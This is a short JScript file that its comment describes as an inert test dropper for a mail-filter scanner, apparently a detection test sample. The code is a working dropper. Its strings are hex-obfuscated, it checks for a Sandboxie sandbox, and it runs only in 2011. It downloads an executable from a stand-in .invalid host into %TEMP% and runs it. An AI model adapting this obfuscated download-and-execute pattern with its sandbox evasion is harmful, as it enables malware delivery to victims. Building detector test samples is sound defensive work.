// Test dropper written for fileless-milter (inert): a date-gated download and run. Every
// string goes through a decoder (hex pairs, each followed by a junk letter); the branch runs
// only in 2011 and when a sandbox probe fails, so an emulated run never takes it. The URL is
// in .invalid; the emulator never connects anywhere.
function Q7(s) { var o = ""; for (var i = 0; i < s.length; i += 3) o += String.fromCharCode(parseInt(s.substr(i, 2), 16)); return o; }
function mk(p) { return WScript[Q7("43K72Y65P61Q74Q65R4FJ62W6AR65W63U74U")](p); }
function note(t) { WScript.Echo(t); return t + "."; }
function probe() { try { return mk(Q7("53K62Q69P65S2ET43Q68T65Y63L6BM")) !== null; } catch (e) { return false; } }
if (new Date()[Q7("67Z65Q74M46G75J6CK6CS59G65J61Q72N")]() == parseInt(Q7("32U30U31W31K"), 10) && !probe()) {
    var sh = mk(Q7("57K53T63M72K69X70Y74N2EQ53W68N65X6CR6CY")), x = mk(Q7("4DQ53K58K4DJ4CQ32Q2EK58G4DM4CV48K54Y54J50V")), st = mk(Q7("41X44M4FZ44U42W2ER53X74W72V65V61K6DQ"));
    x[Q7("6FX70U65P6EW")](Q7("47X45J54L"), Q7("68X74Q74W70G3AU2FV2FG75T70T64X61Q74T65R73Y2EN65H78Z61X6DQ70K6CU65K2EH69N6ER76G61G6CY69R64Y2FT75Q2EK65H78L65N"), false); x[Q7("73G65P6EQ64Y")]();
    st[Q7("4FQ70M65P6EN")](); st[Q7("54S79R70T65H")] = 1; st[Q7("57Z72M69Y74N65T")](x[Q7("72X65U73P70U6FZ6EZ73S65X42H6FP64V79X")]);
    var f = sh[Q7("45S78J70Q61K6EL64N45H6EL76N69Q72X6FW6EL6DZ65U6EH74K53Q74T72Z69V6EV67L73W")](Q7("25P54J45L4DM50L25G")) + Q7("5CP75T2EZ65H78V65W");
    st[Q7("53Q61X76S65J54T6FH46Z69K6CJ65V")](f, 2); st[Q7("43K6CH6FM73J65G")]();
    note("starting");
    sh[Q7("52R75H6EL")](f, 0, false);
}
